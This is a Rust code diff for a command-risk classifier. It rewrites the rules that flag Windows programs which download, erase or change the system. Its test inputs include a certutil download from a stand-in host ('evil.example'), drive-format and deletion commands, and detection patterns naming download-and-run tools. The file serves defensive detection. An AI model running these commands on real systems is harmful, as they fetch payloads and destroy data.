@@ -1,101 +1,88 @@
 //! Programs of Windows that a shell can start there: what deletes, fetches, or changes the machine.
 
-use super::entry::Command;
+use super::entry::When::{Always, Any, Not, Operands, Says, Test};
+use super::entry::{Case, Command, Given};
 use super::words::words;
 use crate::rules::{execution, files, network};
-use crate::shell::{Field, Flow, Io, Step, Walker};
+use crate::shell::Walker;
 
-/// Change the machine, whatever they are told; some only read with the words beside them.
-const CHANGE: &[(&str, &[&str])] = &[
-    ("diskpart", &[]),
-    ("bcdedit", &["/enum"]),
-    ("vssadmin", &["list"]),
-    ("wbadmin", &["get"]),
-    ("takeown", &[]),
-    ("icacls", &["/verify", "/findsid"]),
-    ("cacls", &[]),
-    ("reg", &["query", "compare"]),
-    ("sc", &["query", "qc", "queryex"]),
-    ("wmic", &["get", "list"]),
-    ("net", &["view", "statistics", "help"]),
-    ("netsh", &["show"]),
-    ("setx", &[]),
-    ("fsutil", &["fsinfo", "query"]),
-    ("runas", &[]),
-    ("wevtutil", &["el", "qe", "gl"]),
-    ("taskkill", &[]),
-];
+/// `net user`, `reg` alone and the like print a list or a help text.
+const ASKS: &[Case] = &[Case(Any(&[Says("/?"), Not(&Operands(2))]), &execution::COMMAND)];
+
+const OTHER: &[Case] = &[Case(Always, &execution::COMMAND)];
+
+const ELSE: &[Case] = &[Case(Always, &execution::SYSTEM)];
 
 pub(super) const COMMANDS: &[Command] = &[
-    Command::code(
+    Command::cases(
         words!("certutil bitsadmin mshta regsvr32 rundll32"),
-        fetches,
-        [&[], &["/?"], &["-urlcache -f http://evil.example/a.exe a.exe"], &[]],
+        &[],
+        &[&[Case(Says("*://* *javascript:* *-decode"), &network::SHELL)], OTHER],
+        [&[], &["/?"], &["-urlcache -f http://evil.example/a.exe a.exe", "-decode a b"], &[]],
     ),
-    Command::code(
+    Command::cases(
         words!("format cipher rd erase deltree"),
-        erases,
-        [&[], &["/?"], &["C: /q"], &[]],
+        &[],
+        &[
+            &[Case(
+                Any(&[Says("/s /q /fs:ntfs /w:* *:\\*"), Test(names_drive)]),
+                &files::SECURE_ERASE,
+            )],
+            OTHER,
+        ],
+        [&[], &["/?"], &["C: /q", "D:", "/S build"], &[]],
     ),
-    Command::code(
-        words!(
-            "diskpart bcdedit vssadmin wbadmin takeown icacls cacls reg sc wmic net netsh setx \
-             fsutil runas wevtutil taskkill"
-        ),
-        changes,
-        [&[], &["/?"], &["delete C:/data /s"], &[]],
+    Command::cases(
+        words!("diskpart cacls setx runas"),
+        &[],
+        &[ASKS, ELSE],
+        [&[], &["/?", "x"], &["delete C:/data /s"], &[]],
+    ),
+    Command::cases(
+        words!("takeown"),
+        &[],
+        &[&[Case(Says("/?"), &execution::COMMAND)], ELSE],
+        [&[], &["/?"], &["/f", "/f C:/data /r"], &[]],
+    ),
+    Command::cases(
+        words!("bcdedit icacls"),
+        &[],
+        &[ASKS, &[Case(Says("/enum /verify /findsid"), &execution::COMMAND)], ELSE],
+        [&[], &["/?", "x /verify"], &["delete C:/data /s", "/set x"], &[]],
+    ),
+    Command::cases(
+        words!("vssadmin wbadmin wmic"),
+        &[],
+        &[ASKS, &[Case(Says("list get"), &execution::COMMAND)], ELSE],
+        [&[], &["/?", "list x", "process get"], &["delete C:/data /s"], &[]],
+    ),
+    Command::cases(
+        words!("reg sc fsutil"),
+        &[],
+        &[ASKS, &[Case(Says("query compare qc queryex fsinfo"), &execution::COMMAND)], ELSE],
+        [&[], &["/?", "query x"], &["delete C:/data /s", "add x /f"], &[]],
+    ),
+    Command::cases(
+        words!("net netsh"),
+        &[],
+        &[ASKS, &[Case(Says("view statistics help show"), &execution::COMMAND)], ELSE],
+        [&[], &["/?", "user", "show x"], &["delete C:/data /s", "user x /delete"], &[]],
+    ),
+    Command::cases(
+        words!("wevtutil"),
+        &[],
+        &[ASKS, &[Case(Says("el qe gl"), &execution::COMMAND)], ELSE],
+        [&[], &["/?", "qe System"], &["delete C:/data /s", "cl System"], &[]],
+    ),
+    Command::cases(
+        words!("taskkill"),
+        &[],
+        &[ASKS, &[Case(Says("/pid"), &execution::PROCESS), Case(Always, &execution::PROCESS_ALL)]],
+        [&[], &["/?", "/PID 4711"], &["delete C:/data /s", "/im node.exe"], &[]],
     ),
 ];
 
-fn lower(words: &[Field]) -> Vec<String> {
-    words[1..].iter().map(|word| word.text.to_ascii_lowercase()).collect()
-}
-
-fn changes(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let rest = lower(words);
-    let name = words[0].text.clone();
-    let reads = CHANGE
-        .iter()
-        .find(|(program, _)| *program == name)
-        .is_some_and(|(_, reads)| rest.iter().any(|word| reads.contains(&word.as_str())));
-    // `net user`, `reg` alone and the like print a list or a help text.
-    let asks = rest.iter().any(|word| word == "/?") || rest.len() < 2 && name != "takeown";
-    let rule = if reads || asks {
-        &execution::COMMAND
-    } else if name == "taskkill" {
-        let by_number = rest.iter().any(|word| word == "/pid");
-        if by_number { &execution::PROCESS } else { &execution::PROCESS_ALL }
-    } else {
-        &execution::SYSTEM
-    };
-    walker.found(rule, &super::options::joined(words));
-    Ok(Flow::unknown())
-}
-
-fn erases(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let rest = lower(words);
-    let drive = |text: &String| text.len() >= 2 && text.as_bytes()[1] == b':';
-    let told = rest.iter().any(|text| {
-        drive(text)
-            || text.contains(":\\")
-            || matches!(text.as_str(), "/s" | "/q" | "/fs:ntfs")
-            || text.starts_with("/w:")
-    });
-    walker.found(
-        if told { &files::SECURE_ERASE } else { &execution::COMMAND },
-        &super::options::joined(words),
-    );
-    Ok(Flow::unknown())
-}
-
-fn fetches(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let rest = lower(words);
-    let told = rest.iter().any(|text| {
-        text.contains("://") || text.contains("javascript:") || text.ends_with("-decode")
-    });
-    walker.found(
-        if told { &network::SHELL } else { &execution::COMMAND },
-        &super::options::joined(words),
-    );
-    Ok(Flow::unknown())
+/// A drive, or a path on one: `C:`.
+fn names_drive(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
+    given.words[1..].iter().any(|word| word.text.as_bytes().get(1) == Some(&b':'))
 }
